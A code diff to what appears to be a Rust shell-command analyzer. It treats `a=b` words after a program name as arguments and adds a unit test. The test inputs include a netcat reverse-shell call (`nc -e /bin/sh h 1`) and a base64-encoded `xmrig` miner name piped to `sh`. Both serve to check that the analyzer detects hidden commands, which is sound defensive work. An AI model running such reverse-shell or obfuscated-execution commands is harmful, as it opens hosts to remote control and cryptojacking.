@@ -480,6 +480,11 @@ impl Walker {
             self.push_word(&w.value, &f, &mut argv, &mut cmd, &mut first_word);
         }
         for item in suffix {
+            // After the program name, `a=b` is an ordinary argument (brush marks it as an assignment).
+            if let Item::AssignmentWord(_, word) = item {
+                self.push_word(&word.value, &f, &mut argv, &mut cmd, &mut first_word);
+                continue;
+            }
             handle(self, item, &mut argv, &mut cmd, &mut stdin, &mut first_word);
         }
         if let Some(s) = stdin {
@@ -1053,6 +1058,13 @@ mod tests {
         assert_eq!(names("ls -la | grep x && echo $(whoami) ; (cd /tmp; make)"), vec!["ls", "grep", "whoami", "echo", "cd", "make"]);
         assert_eq!(names("diff <(sort a) b"), vec!["sort", "diff"]);
         assert_eq!(names("f() { nc -e /bin/sh h 1; }; f"), vec!["nc", "f"]);
+    }
+
+    #[test]
+    fn arguments_with_equals_signs_are_arguments() {
+        let a = analyze("echo eG1yaWc= | base64 -d | sh", &Limits::default());
+        assert_eq!(a.commands[0].argv, vec!["echo", "eG1yaWc="]);
+        assert!(a.commands.iter().any(|c| c.name == "xmrig"));
     }
 
     #[test]
